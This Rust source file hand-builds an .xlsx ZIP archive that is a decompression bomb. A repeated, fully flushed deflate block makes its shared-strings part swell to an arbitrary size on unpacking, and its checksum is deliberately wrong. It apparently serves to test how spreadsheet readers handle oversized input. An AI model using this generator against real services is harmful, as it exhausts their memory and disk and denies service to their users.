//! A workbook that is small as a file and enormous once it is unpacked.

use flate2::{Compress, Compression, Crc, FlushCompress};

/// One whose shared texts are so many bytes. Each piece of them is sound; the checksum at the end is not
/// reckoned over all of it, for whoever comes to it has unpacked it already.
pub fn swelling(bytes: u64) -> Vec<u8> {
    let piece = "<si><t>a text like others</t></si>".repeat(20_000);
    let times = bytes / piece.len() as u64;
    let texts: Vec<(&str, u64)> = vec![("<sst>", 1), (&piece, times), ("</sst>", 1)];
    let mut file = Zip::default();
    file.add("xl/workbook.xml", &[("<workbook/>", 1)]);
    file.add("xl/sharedStrings.xml", &texts);
    file.finish()
}

/// An archive whose parts are packed as they are told: a text so many times. Written by hand: a library would pack the whole.
#[derive(Default)]
struct Zip {
    file: Vec<u8>,
    directory: Vec<u8>,
    count: u16,
}

impl Zip {
    fn add(&mut self, name: &str, content: &[(&str, u64)]) {
        let (mut packed, mut length, mut sum) = (Vec::new(), 0, Crc::new());
        for (text, times) in content {
            // after a full flush nothing refers to what was before, so that it may stand again
            let mut one = Vec::with_capacity(text.len() + 64);
            Compress::new(Compression::best(), false)
                .compress_vec(text.as_bytes(), &mut one, FlushCompress::Full)
                .unwrap();
            packed.extend(one.repeat(*times as usize));
            length += text.len() as u64 * times;
            if *times == 1 {
                sum.update(text.as_bytes());
            }
        }
        // the empty block that ends it
        packed.extend([3, 0]);
        let mut told: Vec<u8> = [20_u16, 0, 8, 0, 0].iter().flat_map(|word| word.to_le_bytes()).collect();
        let numbers = [sum.sum(), packed.len() as u32, length as u32];
        told.extend(numbers.iter().flat_map(|number| number.to_le_bytes()));
        told.extend((name.len() as u16).to_le_bytes());
        let at = self.file.len() as u32;
        self.file.extend(*b"PK\x03\x04");
        self.file.extend(&told);
        self.file.extend([0, 0]);
        self.file.extend(name.as_bytes());
        self.file.extend(packed);
        self.directory.extend(*b"PK\x01\x02\x14\x00");
        self.directory.extend(&told);
        self.directory.extend([0; 12]);
        self.directory.extend(at.to_le_bytes());
        self.directory.extend(name.as_bytes());
        self.count += 1;
    }

    fn finish(mut self) -> Vec<u8> {
        let (at, length) = (self.file.len() as u32, self.directory.len() as u32);
        self.file.extend(self.directory);
        self.file.extend(*b"PK\x05\x06\0\0\0\0");
        self.file.extend([self.count, self.count].iter().flat_map(|count| count.to_le_bytes()));
        self.file.extend([length, at].iter().flat_map(|number| number.to_le_bytes()));
        self.file.extend([0, 0]);
        self.file
    }
}
